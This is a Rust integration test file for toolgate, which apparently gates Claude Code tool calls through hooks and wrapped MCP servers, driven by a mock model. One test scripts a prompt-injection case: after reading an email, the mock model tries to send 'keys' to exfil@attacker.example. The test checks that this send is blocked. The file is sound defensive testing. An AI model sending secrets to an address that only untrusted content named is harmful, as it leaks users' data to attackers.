//! The real Claude Code (`@anthropic-ai/claude-code`, pinned in tests/package.json) with
//! toolgate's hooks installed by `toolgate init --client claude-code --hooks`, as the README
//! says, driven offline by a scripted mock of the Anthropic Messages API
//! (`support::agent_cli`, `support::model_mock`). Claude Code's own permission prompts are off
//! (`--permission-mode bypassPermissions`), so toolgate alone decides; canary files prove
//! whether a command ran, and the mock's log what the model saw.
//!
//! Also a test of the client behaviour toolgate relies on: a hook command that exits 127
//! (its executable gone) is a non-blocking error in Claude Code, so the entries end in
//! `|| exit 2`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "a test fails by panicking, so unwrap, expect, panic and indexing are its assertions; says why it skipped"
)]

use std::path::Path;

use serde_json::json;

use crate::support::agent_cli::{Agent, check_mail_run};
use crate::support::hooks::World;
use crate::support::model_mock::call;

#[test]
fn a_key_read_by_a_shell_command_never_runs_and_an_allowed_command_does() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    claude.check_key_never_read_and_allowed_command_runs();
}

#[test]
fn a_command_naming_a_host_only_untrusted_content_named_does_not_run() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    claude.check_tainted_host_command_does_not_run();
}

#[test]
fn a_hook_executable_deleted_after_init_leaves_the_tool_not_run() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    claude.check_deleted_hook_leaves_the_tool_not_run();
}

/// One agent session across Claude Code's hooks and the MCP server `init` wrapped: the
/// attacker's address that only a mail names never reaches the server; the address the user
/// typed does (the prompt hook vouches for it once Claude Code's transcript holds the
/// prompt, which it writes only after the hook of a session's first prompt ran).
#[test]
fn an_address_only_a_mail_named_never_reaches_the_server_and_one_the_prompt_named_does() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
    let record = w.base().join("record.jsonl");
    let server = toolgate_testkit::bin_path("attack_server");
    let mcp = json!({"mcpServers": {"mail": {"command": server, "args":
        ["--kind", "mail", "--record", record]}}});
    std::fs::write(w.project().join(".mcp.json"), mcp.to_string()).unwrap();
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    claude.init(&w, exe, &["--policy", policy]);
    claude.init(
        &w,
        exe,
        &["--hooks", "--scope", "project", "--policy", policy],
    );
    let wrapped = std::fs::read_to_string(w.project().join(".mcp.json")).unwrap();
    assert!(wrapped.contains("\"wrap\""), "{wrapped}");
    let script = vec![
        call("mcp__mail__read_email", json!({"message_id": "1"})),
        call(
            "mcp__mail__send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
        ),
        call(
            "mcp__mail__send_email",
            json!({"to": ["bob@partner.example"], "subject": "notes", "body": "my notes"}),
        ),
    ];
    let (mock, out) = claude.run(
        &w,
        "Read email 1, then send my notes to bob@partner.example",
        script,
        &["--mcp-config", ".mcp.json"],
    );
    check_mail_run(&mock, &out, &record, 0, true);
}

/// An ask in a headless run: Claude Code has nobody to ask, and neither waits nor runs the
/// tool (the run ends within its bound; the canary is not written).
#[test]
fn an_ask_in_a_headless_run_neither_hangs_nor_runs_the_tool() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    claude.check_headless_ask_neither_hangs_nor_runs(&["default is ask"]);
}

#[test]
fn a_broker_that_cannot_start_leaves_the_tool_not_run() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    claude.check_broker_that_cannot_start_leaves_the_tool_not_run();
}

#[test]
fn a_broker_that_hangs_leaves_the_tool_not_run() {
    let Some(claude) = Agent::claude_code() else {
        return;
    };
    claude.check_hanging_broker_leaves_the_tool_not_run();
}
